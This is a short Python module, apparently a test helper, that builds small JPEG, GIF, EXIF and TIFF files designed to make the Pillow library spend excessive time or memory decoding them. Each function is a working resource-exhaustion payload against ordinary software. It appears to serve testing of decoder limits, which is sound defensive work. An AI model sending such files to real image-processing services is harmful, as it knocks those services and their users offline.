"""Small pictures that take a long time or much memory to decode."""

import io
import struct

from PIL import Image


def progressive_jpeg(side: int, scans: int) -> bytes:
    """Return a progressive JPEG, gray, `side` pixels wide and high, that repeats its last scan `scans` times.

    A repeated scan takes 42 bytes, but the decoder passes through all coefficients of the picture.
    """
    file = io.BytesIO()
    Image.new("L", (side, side), 128).save(file, "JPEG", progressive=True, quality=50)
    content = file.getvalue()
    start, end = content.rindex(b"\xff\xda"), content.rindex(b"\xff\xd9")
    return content[:end] + content[start:end] * scans + content[end:]


def gif_with_comments(size: int) -> bytes:
    """Return a GIF of about `size` bytes with many comments. For each comment, Pillow copies all earlier comments."""
    file = io.BytesIO()
    Image.new("L", (28, 28), 255).save(file, "GIF")
    content = file.getvalue()
    start = 13 + 3 * 2 ** ((content[10] & 7) + 1)
    comment = b"\x21\xfe\x01x\x00"
    return content[:start] + comment * (size // len(comment)) + content[start:]


def exif_with_overlapping_tags(size: int, tags: int) -> bytes:
    """Return EXIF data with `tags` tags that all refer to the same `size` bytes."""
    entries = b"".join(struct.pack("<HHII", 0x1000 + i, 7, size, 8) for i in range(tags))
    return b"Exif\0\0II*\0" + struct.pack("<I", 8 + size) + bytes(size) + struct.pack("<H", tags) + entries + bytes(4)


def tiff_with_a_large_tag(size: int) -> bytes:
    """Return a TIFF with a tag of `size` bytes, which Pillow turns into a list of Python numbers."""
    data = bytes(size)
    entries = [
        struct.pack("<HHII", 256, 4, 1, 8), struct.pack("<HHII", 257, 4, 1, 8), struct.pack("<HHII", 258, 3, 1, 8),
        struct.pack("<HHII", 259, 3, 1, 1), struct.pack("<HHII", 262, 3, 1, 1), struct.pack("<HHII", 273, 4, 1, 8),
        struct.pack("<HHII", 277, 3, 1, 1), struct.pack("<HHII", 279, 4, 1, 64),
        struct.pack("<HHII", 0x9000, 5, size // 8, 8),
    ]  # fmt: skip
    directory = struct.pack("<H", len(entries)) + b"".join(entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8 + size) + data + directory
